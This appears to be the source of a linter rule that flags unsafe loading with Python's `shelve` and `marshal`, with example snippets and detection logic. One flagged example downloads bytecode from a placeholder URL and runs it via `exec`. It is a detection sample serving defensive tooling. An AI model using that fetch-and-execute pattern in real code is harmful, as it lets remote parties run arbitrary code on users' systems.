"""MLW116: `shelve` and `marshal`."""

from __future__ import annotations

from collections.abc import Iterator
from typing import TYPE_CHECKING

from mlwarden.rules.base import Bad, Confidence, Finding, Good, Missed, Reference, Rule, Severity
from mlwarden.semantics.loaders import reading
from mlwarden.semantics.origins import OriginKind
from mlwarden.semantics.values import Reference as Name

if TYPE_CHECKING:
    from mlwarden.semantics.calls import CallSite
    from mlwarden.semantics.model import SemanticModel

_LOADERS: dict[str, tuple[str, int]] = {
    "shelve.open": ("filename", 0),
    "shelve.DbfilenameShelf": ("filename", 0),
    "shelve.Shelf": ("dict", 0),
    "shelve.BsdDbShelf": ("dict", 0),
    "marshal.load": ("file", 0),
    "marshal.loads": ("bytes", 0),
}
# Calls that run a code object.
_RUNNERS = ("exec", "eval", "types.FunctionType", "types.LambdaType", "types.CodeType")


class ShelveMarshalLoad(Rule):
    """Reading with `shelve` or `marshal`.

    ## Why is this bad?

    A shelf holds pickles: reading a value may call any function that Python can import. `marshal` reads the format of
    compiled code; damaged or prepared data crashes the interpreter, and a code object from it runs whatever its author
    wrote. Keras stores the bodies of Lambda layers this way.

    ## How to fix

    Keep records in SQLite with JSON values. Keep functions in source code.

    ## When it is fine

    For a cache that the same program writes, in a folder that nobody else can write to.

    ## Limits

    What is done with a code object is seen only where it is run in the same document.
    """

    code = "MLW116"
    name = "shelve-marshal-load"
    severity = Severity.MEDIUM
    calls = (*_LOADERS, *_RUNNERS)
    triggers = tuple(tuple(name.split(".")) for name in _LOADERS)
    yields_to = ("MLW132", "MLW407")
    cwe = (502,)
    owasp_ml = ("ML06",)
    atlas = ("AML.T0011.000",)
    references = (
        Reference("Python: shelve, the warning", "https://docs.python.org/3/library/shelve.html"),
        Reference("Python: marshal, the warning", "https://docs.python.org/3/library/marshal.html"),
    )
    examples = (
        Bad(
            """
            import shelve

            def cache(path):
                return shelve.open(path, flag="r")
                       ^^^^^^^^^^^^^^^^^^^^^^^^^^^
            """,
            severity=Severity.MEDIUM,
            confidence=Confidence.MEDIUM,
            message="`shelve.open` on data of unknown origin unpickles every value that is read from it, "
            "and can run code hidden there",
        ),
        Bad(
            """
            import marshal
            import types

            def layer(dumped):
                code = marshal.loads(dumped)
                return types.FunctionType(code, globals())
                       ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
            """,
            severity=Severity.HIGH,
            confidence=Confidence.HIGH,
            message="`types.FunctionType` runs bytecode that `marshal` read from data of unknown origin",
        ),
        Bad(
            """
            import requests
            from marshal import loads

            exec(loads(requests.get("https://example.com/patch").content))
            ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^
            """,
            severity=Severity.CRITICAL,
        ),
        Bad(
            """
            import marshal

            with open("rules.bin", "rb") as file:
                rules = marshal.load(file)
                        ^^^^^^^^^^^^^^^^^^
            """,
            severity=Severity.LOW,
        ),
        Good(
            """
            import marshal

            def deep_copy(value):
                return marshal.loads(marshal.dumps(value))
            """,
            because="the bytes were made by the same expression",
        ),
        Good(
            """
            import json
            import sqlite3

            connection = sqlite3.connect("cache.db")
            rows = [json.loads(row[0]) for row in connection.execute("select value from cache")]
            """,
            because="JSON holds data only",
        ),
        Good(
            """
            from project import marshal, shelve

            marshal.loads(b"{}")
            shelve.open("cache")
            """,
            because="these modules are the project's own",
        ),
        Missed(
            """
            import importlib.util

            spec = importlib.util.spec_from_file_location("patch", "patch.pyc")
            spec.loader.exec_module(importlib.util.module_from_spec(spec))
            """,
            because="the import system reads compiled code with `marshal` too; loading modules is no part of this rule",
        ),
    )

    def check_call(self, call: CallSite, model: SemanticModel) -> Iterator[Finding]:
        """Report loads by origin, and bytecode that is run at the place where it runs."""
        if call.name in _RUNNERS:
            yield from self._run(call, model)
            return
        keyword, position = _LOADERS[call.name]
        data = call.argument(keyword, position)
        if call.name in {"shelve.Shelf", "shelve.BsdDbShelf"} and data.names() == ():
            return  # a shelf over a dictionary in memory
        read = reading(call, model, data)
        if read is None or any(_loaded_by(runner) == call for name in _RUNNERS for runner in model.calls_of(name)):
            return
        danger = "unpickles every value that is read from it, and can run code hidden there"
        if call.name.startswith("marshal."):
            danger = "can crash the interpreter, or give code to run"
        yield self.finding(
            call.span,
            f"`{call.name}` on {read.what} {danger}",
            severity=read.severity,
            confidence=read.confidence,
            trace=read.trace,
        )

    def _run(self, call: CallSite, model: SemanticModel) -> Iterator[Finding]:
        loader = _loaded_by(call)
        if loader is None:
            return
        keyword, position = _LOADERS[loader.name]
        read = reading(loader, model, loader.argument(keyword, position))
        if read is None:
            return
        remote = read.origin.kind is OriginKind.REMOTE
        yield self.finding(
            call.span,
            f"`{call.name}` runs bytecode that `marshal` read from {read.what}",
            severity=Severity.CRITICAL if remote else Severity.HIGH,
            confidence=Confidence.HIGH if read.origin.certain else Confidence.MEDIUM,
            trace=read.trace,
        )


def _loaded_by(runner: CallSite) -> CallSite | None:
    """The `marshal` call that made the code object which a call runs."""
    for option in runner.argument("code", 0).alternatives():
        if isinstance(option, Name) and option.name in {"marshal.load()", "marshal.loads()"}:
            return option.made_by
    return None
